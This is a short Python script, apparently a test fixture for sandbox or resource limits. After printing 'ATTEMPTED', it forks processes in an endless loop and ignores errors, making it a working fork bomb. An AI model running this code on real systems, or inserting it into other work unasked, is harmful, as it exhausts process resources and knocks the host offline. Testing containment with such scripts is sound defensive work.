"""Forks without end."""
import os

print("ATTEMPTED", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
